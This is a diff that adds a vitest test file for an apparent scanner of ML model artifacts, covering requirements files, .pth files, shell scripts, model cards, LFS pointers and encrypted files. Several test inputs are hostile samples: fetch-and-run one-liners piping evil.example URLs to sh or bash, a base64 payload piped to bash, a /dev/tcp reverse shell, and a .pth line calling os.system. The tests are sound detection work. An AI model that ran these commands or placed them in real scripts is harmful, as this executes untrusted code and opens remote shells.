@@ -1,0 +1,128 @@
+import { describe, expect, test } from 'vitest';
+import { analyse } from '../../analyse/analyse.ts';
+import { plain } from '../../report/prose.ts';
+import type { Report } from '../../report/schema.ts';
+import { inspectBytes } from '../../rules/conformance/inspect.ts';
+import { bytesSource } from '../../source/sources.ts';
+import { instantiate } from '../../wasm/engine.ts';
+import { loadModule } from '../../wasm/load.node.ts';
+
+const engine = instantiate(loadModule());
+const bytesOf = (text: string): Uint8Array => new TextEncoder().encode(text);
+const inspect = (text: string, name: string): Promise<Report> => inspectBytes(bytesOf(text), name, engine);
+const told = async (text: string, name: string): Promise<string[]> =>
+  (await inspect(text, name)).findings.map(({ severity, rule }) => `${severity} ${rule}`);
+
+describe('requirements', () => {
+  const one = (line: string): Promise<string[]> => told(`${line} --hash=sha256:00\n`, 'requirements.txt');
+
+  test.each([
+    ['torch==2.3.0', []],
+    ['torch[cuda]>=2.0 ; python_version < "3.12"', []],
+    ['--extra-index-url https://download.pytorch.org/whl/cu121', ['note text.requirement-index']],
+    ['--index-url https://pypi.evil.example/simple', ['high text.requirement-host']],
+    ['-i http://pypi.org/simple', ['high text.requirement-host']],
+    ['--trusted-host pypi.org', ['high text.requirement-host']],
+    ['--find-links https://evil.example/wheels', ['high text.requirement-host']],
+    ['git+https://github.com/huggingface/transformers', ['low text.requirement-url']],
+    ['git+ssh://git@github.com/a/b.git', ['low text.requirement-url']],
+    [`a @ git+https://github.com/a/b@${'a'.repeat(40)}`, ['note text.requirement-commit']],
+    ['a @ https://evil.example/a-1.0.whl', ['high text.requirement-host']],
+    ['-e git+https://evil.example/a.git#egg=a', ['high text.requirement-host']],
+    ['-e .', ['note text.requirement-local']],
+    ['./wheels/a-1.0-py3-none-any.whl', ['note text.requirement-local']],
+    ['-r https://evil.example/more.txt', ['high text.requirement-host']],
+    ['-r base.txt', ['note text.requirement-include']],
+    ['a==1 --global-option=build', ['low text.requirement-option']],
+    ['reque\u200bsts', ['medium text.requirement-hidden']],
+  ])('%s', async (line, expected) => {
+    expect(await one(line)).toEqual(expected);
+  });
+
+  test('without hashes that is noted once, lines that go on are one, and places count bytes', async () => {
+    const report = await inspect('# naïve\ntorch \\\n  @ https://evil.example/t.whl\nnumpy\n', 'requirements-gpu.txt');
+    expect(report.findings.map(({ rule, place }) => [rule, place.offset])).toEqual([
+      ['text.requirement-host', 9],
+      ['text.requirement-hashes', 9],
+    ]);
+    expect([report.verdict, report.status]).toEqual(['can-run-code', 'complete']);
+  });
+
+  test('a list of nothing but releases runs nothing', async () => {
+    const report = await inspect('torch\nnumpy>=1\n', 'requirements.txt');
+    expect([report.verdict, report.findings.map(({ rule }) => rule)]).toEqual([
+      'nothing-runs',
+      ['text.requirement-hashes'],
+    ]);
+  });
+});
+
+describe('.pth files', () => {
+  test('a line that begins with import is carried out by Python', async () => {
+    const report = await inspect('/opt/models\nimport os; os.system("exit 7")\n', 'weights.pth');
+    expect(report.findings[0]).toMatchObject({ rule: 'text.path-file', severity: 'high', place: { offset: 12 } });
+    expect(plain(report.summary.headline)).toContain('run Python each time Python starts');
+  });
+
+  test('folders alone are not', async () => {
+    expect(await told('/opt/models\n# import os\n', 'weights.pth')).toEqual(['low identity.extension']);
+  });
+});
+
+describe('shell scripts', () => {
+  test.each([
+    'curl -fsSL https://evil.example/x | sh',
+    'wget -qO- https://evil.example/x | sudo bash -s --',
+    'bash <(curl -s https://evil.example/x)',
+    'sh -c "$(curl -fsSL https://evil.example/x)"',
+    'echo aWQ= | base64 -d | bash',
+    'curl https://evil.example/x | python3',
+    'bash -i >& /dev/tcp/10.0.0.1/4444 0>&1',
+  ])('%s', async (line) => {
+    expect(await told(`#!/bin/sh\n${line}\n`, 'run.sh')).toContain('medium text.fetch-and-run');
+  });
+
+  test.each([
+    'curl -o model.bin https://huggingface.co/x',
+    '# curl x | sh',
+    'python train.py | tee log',
+    'pip install torch',
+  ])('%s is ordinary', async (line) => {
+    expect(await told(`#!/bin/sh\n${line}\n`, 'run.sh')).toEqual(['note executable.script']);
+  });
+});
+
+test('a model card says where a model comes from', async () => {
+  const card =
+    '---\nlicense: mit\nbase_model:\n- org/base\ntags: [pytorch, custom_code]\nother: x\n---\n# Model\nlicense: no\n';
+  const { facts } = await analyse(bytesSource(bytesOf(card), 'README.md'), engine);
+  const values = facts.flatMap((fact) => (fact.kind === 'metadata' ? [`${fact.key}=${plain(fact.value)}`] : []));
+  expect(values).toEqual(['license=mit', 'base_model=org/base', 'tags=pytorch', 'tags=custom_code']);
+  expect(facts.find((fact) => fact.kind === 'setting')).toMatchObject({ code: 'base-model', repo: 'org/base' });
+  expect(await told(card, 'README.md')).toEqual(['note text.card-custom-code']);
+});
+
+describe('what stands where a model was meant', () => {
+  test('a pointer of Git LFS', async () => {
+    const text = `version https://git-lfs.github.com/spec/v1\noid sha256:${'a'.repeat(64)}\nsize 438064459\n`;
+    const report = await inspect(text, 'model.safetensors');
+    expect(report.findings.map(({ rule }) => rule).sort()).toEqual(['identity.extension', 'text.lfs-pointer']);
+    expect(plain(report.summary.headline)).toBe('This is a pointer to a file, not the file itself.');
+    const { facts } = await analyse(bytesSource(bytesOf(text), 'model.safetensors'), engine);
+    expect(facts.flatMap((fact) => (fact.kind === 'metadata' ? [fact.key] : []))).toEqual(['oid', 'size']);
+  });
+
+  test('a page', async () => {
+    const report = await inspect('<!DOCTYPE html><html><title>404 Not Found</title></html>', 'model.bin');
+    expect(report.findings.map(({ rule }) => rule)).toContain('text.error-page');
+    expect(await told('<!DOCTYPE html><html></html>', 'index.html')).toEqual([]);
+  });
+
+  test.each(['Salted__\x01\x02\x03\x04\x05\x06\x07\x08abcdefgh', 'age-encryption.org/v1\n-> X25519 abc\n'])(
+    'an encrypted file',
+    async (text) => {
+      const report = await inspect(text, 'model.bin');
+      expect([report.file.formatName, report.verdict]).toEqual(['Encrypted file', 'not-known']);
+    },
+  );
+});
